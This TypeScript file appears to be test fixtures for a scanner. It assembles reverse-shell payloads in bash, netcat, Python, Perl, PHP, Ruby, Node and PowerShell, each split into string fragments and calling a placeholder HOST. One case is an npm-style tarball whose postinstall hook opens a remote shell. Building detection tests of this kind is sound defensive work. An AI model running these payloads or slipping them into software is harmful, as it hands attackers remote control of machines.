import { gzipSync } from 'node:zlib'
import { cases } from '../case.ts'
import { tar } from '../writers/tar.ts'
import { EXEC, glue, HOST } from './pieces.ts'

export const remoteShellCases = cases([
  ['r.sh', 'a bash reverse shell', glue('#!/bin/bash\nbash -i >& /dev', `/tcp/${HOST}/4444 0>&1\n`)],
  [
    'r2.sh',
    'a netcat reverse shell',
    glue(
      '#!/bin/sh\nrm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | n',
      `c ${HOST} 4444 > /tmp/f\n`,
    ),
  ],
  ['r3.sh', 'a reverse shell through nc -e', glue('#!/bin/sh\nn', `c -e /bin/sh ${HOST} 4444\n`)],
  [
    'r.py',
    'a Python reverse shell',
    glue(
      'import socket,subprocess,os\ns=socket.soc',
      `ket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(("${HOST}",4444))\nos.du`,
      'p2(s.fileno(),0)\nos.du',
      'p2(s.fileno(),1)\nos.du',
      'p2(s.fileno(),2)\nsubprocess.call(["/bin/sh","-i"])\n',
    ),
  ],
  [
    'r.pl',
    'a Perl reverse shell',
    glue(
      'use Socket;$i="',
      HOST,
      '";$p=4444;soc',
      'ket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");',
      EXEC,
      '("/bin/sh -i");};\n',
    ),
  ],
  [
    'r.php',
    'a PHP reverse shell',
    glue(
      '<?p',
      `hp $sock = fsock`,
      `open("${HOST}", 4444); $p = proc_`,
      'open("/bin/sh -i", [0 => $sock, 1 => $sock, 2 => $sock], $pipes); ?>\n',
    ),
  ],
  [
    'r.rb',
    'a Ruby reverse shell',
    glue(
      'require "socket"\nf = TCPSock',
      `et.open("${HOST}", 4444).to_i\n`,
      EXEC,
      ' sprintf("/bin/sh -i <&%d >&%d 2>&%d", f, f, f)\n',
    ),
  ],
  [
    'r.js',
    'a Node reverse shell',
    glue(
      "const net = require('net'), cp = require('child_",
      "process')\nconst sh = cp.sp",
      "awn('/bin/sh', [])\nconst client = new net.Sock",
      `et()\nclient.connect(4444, '${HOST}', () => { client.pipe(sh.stdin); sh.stdout.pipe(client); sh.stderr.pipe(client) })\n`,
    ),
  ],
  [
    'r.ps1',
    'a PowerShell reverse shell',
    glue(
      `$c = New-Object System.Net.Sockets.TCP`,
      `Client('${HOST}',4444);$s = $c.GetStream();[byte[]]$b = 0..65535|%{0};while(($i = $s.Read($b, 0, $b.Length)) -ne 0){$d = (New-Object System.Text.ASCIIEncoding).GetString($b,0,$i);$r = (i`,
      'ex $d 2>&1 | Out-String );$t = ([text.encoding]::ASCII).GetBytes($r);$s.Write($t,0,$t.Length)}\n',
    ),
  ],
  [
    'package.tgz',
    'a bash reverse shell among the scripts of a tar.gz',
    () =>
      gzipSync(
        tar([
          { name: 'package/package.json', data: '{"scripts":{"postinstall":"sh install.sh"}}' },
          {
            name: 'package/install.sh',
            data: glue(
              '#!/bin/bash\n',
              EXEC,
              ' 5<>/dev',
              `/tcp/${HOST}/443; cat <&5 | while read line; do $line 2>&5 >&5; done\n`,
            ),
          },
        ]),
      ),
  ],
])
